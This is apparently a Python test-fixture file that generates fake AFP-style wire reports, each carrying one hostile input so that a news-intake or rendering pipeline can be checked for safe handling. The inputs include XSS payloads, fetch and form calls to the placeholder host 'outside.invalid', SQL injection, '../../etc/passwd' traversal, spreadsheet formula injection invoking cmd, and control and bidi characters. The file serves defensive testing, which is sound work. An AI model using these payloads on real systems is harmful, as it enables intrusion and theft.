"""Reports that try to do more than be read: each is a short wire report with one attack in its text, its names and its fields.

Anything that runs sets `window.ran`, opens a dialog, or asks `outside.invalid`; the tests watch all three. `MARK` words stand in each text
once, so that it can be found again.
"""

import json
from dataclasses import dataclass

RUN = "window.ran=1;alert(1);fetch('http://outside.invalid/x')"
OUTSIDE = "http://outside.invalid"


@dataclass(frozen=True)
class Hostile:
    """One report: `name` says the attack, `mark` is a word that only its text has."""

    name: str
    attack: str
    fields: dict[str, str]

    @property
    def mark(self) -> str:
        return "Hostila" + self.name.replace("-", "")

    @property
    def text(self) -> str:
        given = self.fields.get("text")
        return given.replace("MARK", self.mark) if given is not None else WIRE.replace("MARK", self.mark).replace("ATTACK", self.attack)

    def record(self) -> dict[str, str]:
        """The record as the intake reads it."""
        base = {
            "id": f"hostile/{self.name}",
            "title": f"{self.mark} {self.attack[:200]}",
            "author": self.attack[:200],
            "publisher": self.attack[:60],
        }
        return {**base, "published": "2024-05-17", **{k: v for k, v in self.fields.items() if k != "text"}, "text": self.text}


# The attack stands in a name, in a quotation, beside a number, and in a sentence of its own.
WIRE = """MARK, May 17 (AFP) - Fighters of the ATTACK Front attacked an army post near Maroua in Cameroon on Thursday and killed four soldiers.

The government of Cameroon held talks with ATTACK on Wednesday, the spokesman Jean ATTACK Mbarga said in Yaounde.

"ATTACK", said the defence minister. Police arrested ATTACK and 12 other people in Garoua on Friday.

ATTACK
"""


def _long() -> str:
    days = "\n\n".join(
        f"On Monday soldiers of the {n}th brigade arrested {n + 2} members of the MARK Front near Maroua, the army of Cameroon said."
        for n in range(4, 44)
    )
    return f"MARK (AFP) - Cameroonian police arrested 12 people in Garoua.\n\n{days}\n\n{'no end of it, ' * 500}\n"


def _plain(name: str, attack: str, **fields: str) -> Hostile:
    return Hostile(name, attack, fields)


HOSTILE: tuple[Hostile, ...] = (
    _plain("script", f"<script>{RUN}</script>"),
    _plain("image", f'<img src=x onerror="{RUN}">'),
    _plain("image-outside", f"<img src={OUTSIDE}/p.png srcset={OUTSIDE}/q.png>"),
    _plain("svg", f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>'),
    _plain("ends", f"--></title></textarea></style></script><script>{RUN}</script><!--"),
    _plain("frame", f'<iframe srcdoc="<script>parent.{RUN}</script>" src="javascript:{RUN}"></iframe>'),
    _plain("handler", f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus x="'),
    _plain("link", f'<a href="javascript:{RUN}">here</a> javascript:{RUN}', url=f"javascript:{RUN}"),
    _plain("data-url", f"data:text/html,<script>{RUN}</script>", url=f"data:text/html,<script>{RUN}</script>"),
    _plain(
        "head", f'<base href="{OUTSIDE}/"><meta http-equiv=refresh content="0;url={OUTSIDE}"><link rel=stylesheet href={OUTSIDE}/s.css>'
    ),
    _plain("style", f'<style>@import url({OUTSIDE}/s.css);*{{display:none}}</style><p style="position:fixed;inset:0">'),
    _plain("form", f'<form action={OUTSIDE}><input autofocus onfocus="{RUN}"><button>Log in</button></form>'),
    _plain("template", f'{{{{constructor.constructor("{RUN}")()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}} [[{RUN}]]'),
    _plain("entities", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;amp;"),
    _plain("quotes", "\"'`«»“”‘’\\\"\\'\\\\ \"'\"'\"' ``` ''' \"\"\""),
    _plain("sql", "'; DROP TABLE events; -- \" OR 1=1 %00 ../../etc/passwd NEAR( AND * ^"),
    _plain(
        "formula",
        f'=HYPERLINK("{OUTSIDE}";"x")',
        title=f'=HYPERLINK("{OUTSIDE}";"Hostilaformula")',
        publisher="@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    _plain("prototype", "__proto__ constructor hasOwnProperty toString [object Object] null undefined NaN", publisher="__proto__"),
    _plain("bidi", "\u202emorf\u202c \u2066left\u2069 \u2067right\u2069 \u200f\u200e\u061c \u202dover\u202c \u202e"),
    _plain("right-to-left", "قوات الحكومة هاجمت صنعاء (Sana'a) וגם בעברית 12 נהרגו"),
    _plain("controls", "a\x01b\x02c\x07d\x08e\x0bf\x0cg\x1bh[31m\x7f\x85i"),
    _plain("nulls", "a\x00b\x00\x00c"),
    _plain("newlines", "one\rtwo\r\nthree\u2028four\u2029five\x0bsix\n\n\n\nseven"),
    _plain("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e8\U0001f1f2 \U0001f4a5\U0001f4a5 \U00020000 e\u0301 \U0001d54f"),
    _plain("marks", "Z" + "\u0301\u0316\u0327\u033f\u0489" * 40 + "al" + "\u0336" * 80 + "go"),
    _plain("unseen", "in\u200bvis\u200c\u200dible\ufeff \u00ad soft \u2060\ufe0f \ue000\ufdd0\uffff \ufffd"),
    _plain("huge-word", "W" * 40_000, title="Hostilahugeword " + "T" * 3_000),
    _plain("long", "long", text=_long()),
    _plain("tags-only", "<b><i><u>" * 200),
)


def write(path) -> None:
    """Writes them as JSON lines."""
    path.write_text("".join(json.dumps(one.record()) + "\n" for one in HOSTILE), encoding="utf-8")
